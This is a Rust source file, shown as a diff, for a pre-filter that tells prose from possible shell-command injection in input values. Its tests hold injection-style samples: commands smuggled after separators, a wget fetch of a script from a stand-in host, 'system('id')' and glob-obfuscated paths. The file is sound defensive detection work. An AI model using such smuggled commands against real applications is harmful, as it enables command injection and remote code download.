@@ -1,0 +1,167 @@
+//! A glance at a value that separators alone have brought here: prose is full of semicolons, line breaks and hyphens. It tells
+//! prose by its bytes and by the words in a command's place, and knows nothing of what a clause would weigh.
+
+use super::{commands, powershell};
+
+/// Bytes that prose, lists and addresses are made of and no construct of a shell needs.
+const PROSE: [bool; 256] = {
+    let mut table = [false; 256];
+    let mut byte = 0;
+    while byte < 256 {
+        let ascii = byte as u8;
+        table[byte] = ascii.is_ascii_alphanumeric()
+            || ascii >= 0x80
+            || matches!(
+                ascii,
+                b' ' | b'\t'
+                    | b'\n'
+                    | b'\r'
+                    | b','
+                    | b'.'
+                    | b';'
+                    | b':'
+                    | b'!'
+                    | b'?'
+                    | b'('
+                    | b')'
+                    | b'\''
+                    | b'"'
+                    | b'-'
+                    | b'_'
+                    | b'+'
+                    | b'@'
+                    | b'&'
+                    | b'/'
+                    | b'#'
+                    | b'*'
+                    | b'='
+                    | b'%'
+            );
+        byte += 1;
+    }
+    table
+};
+
+/// Longest word that is looked up; no program has a longer name.
+const WORD_BYTES_MAX: usize = 31;
+
+/// Whether [`super::inspect`] could find anything in `bytes`.
+pub fn is_worth_it(bytes: &[u8]) -> bool {
+    let mut slash = false;
+    let mut wildcard = false;
+    let mut heads = true;
+    for (at, &byte) in bytes.iter().enumerate() {
+        if !PROSE[usize::from(byte)] {
+            return true;
+        }
+        slash |= byte == b'/';
+        match byte {
+            b'*' | b'?' => wildcard = true,
+            // A bracket or a separator directly behind another one moves the command's place on.
+            b';' | b'&' | b'(' | b')' | b'\n' | b'\r' => heads = true,
+            b' ' | b'\t' | b'+' | b'\'' | b'"' => {}
+            _ if heads => match first_word(bytes.get(at..).unwrap_or_default()) {
+                First::Command => return true,
+                First::Noise => {}
+                First::Text => heads = false,
+            },
+            _ => {}
+        }
+    }
+    if slash && wildcard {
+        return true;
+    }
+    let mut found = false;
+    powershell::inspect(bytes, &mut |_| found = true);
+    found
+}
+
+/// What stands in a command's place.
+enum First {
+    /// A name that can be a command, or what a command can follow.
+    Command,
+    /// A mark that is passed over.
+    Noise,
+    Text,
+}
+
+/// What the word at the start of `rest` can be. Quotes are no part of it.
+fn first_word(rest: &[u8]) -> First {
+    let mut word = [0; WORD_BYTES_MAX];
+    let mut length = 0;
+    let mut path = false;
+    // Where the letters and digits end, and the hyphens and dots behind which a version may stand.
+    let mut letters = None;
+    for &byte in rest {
+        match byte {
+            b'\'' | b'"' => continue,
+            b'-' | b'.' | b'_' => letters = letters.or(Some(length)),
+            // An assignment in front of the command, or how a variable is written.
+            b'=' | b'@' | b'%' => return First::Command,
+            // Of a path the last part counts, and whether its directories may hold programs.
+            b'/' => {
+                path = true;
+                let directory = word.get(..length).unwrap_or_default();
+                if matches!(directory, b"" | b"." | b".." | b"bin" | b"sbin") {
+                    return First::Command;
+                }
+                (length, letters) = (0, None);
+                continue;
+            }
+            _ if byte.is_ascii_alphanumeric() => {}
+            _ => break,
+        }
+        let Some(slot) = word.get_mut(length) else { return First::Text };
+        *slot = byte.to_ascii_lowercase();
+        length += 1;
+    }
+    let word = word.get(..length).unwrap_or_default();
+    let word = word.strip_suffix(b".").unwrap_or(word);
+    let known = |word: &[u8]| commands::unix(word).is_some() || commands::windows(word).is_some();
+    if !path && matches!(word, b"" | b"-") {
+        return First::Noise;
+    }
+    let command = matches!(word, b"then" | b"do" | b"else" | b"if" | b"for" | b"alias")
+        || word.first().is_some_and(|first| matches!(first, b'.' | b'-'))
+        || known(word)
+        || letters.and_then(|end| word.get(..end)).is_some_and(known);
+    if command { First::Command } else { First::Text }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn prose_is_not_worth_it() {
+        for value in [
+            "The delivery was late, but the driver's note said it wasn't his fault; we'd order again (5 stars & thanks).",
+            "First line\nSecond line\r\n\r\nBest regards, O'Brien",
+            "an out-of-town trip - lovely; a \"must\" (really). And so on.",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+        ] {
+            assert!(!is_worth_it(value.as_bytes()), "{value}");
+        }
+    }
+
+    #[test]
+    fn commands_in_a_command_s_place_are() {
+        for value in [
+            "127.0.0.1; cat /etc/hostname",
+            "x && w'h'oam\"i\"",
+            "8.8.8.8\nwget http://drop.example/a.sh",
+            "a; FOO=1 x",
+            "1;/bin/x",
+            "x;python3.10 a.py",
+            "tar -xf a",
+            "it is; get-process",
+            "system('id')",
+            "x; - cat a",
+            "/b?n/c?t -x",
+            "x;! /srv/tool y",
+            "x; /srv/tool y",
+        ] {
+            assert!(is_worth_it(value.as_bytes()), "{value}");
+        }
+    }
+}
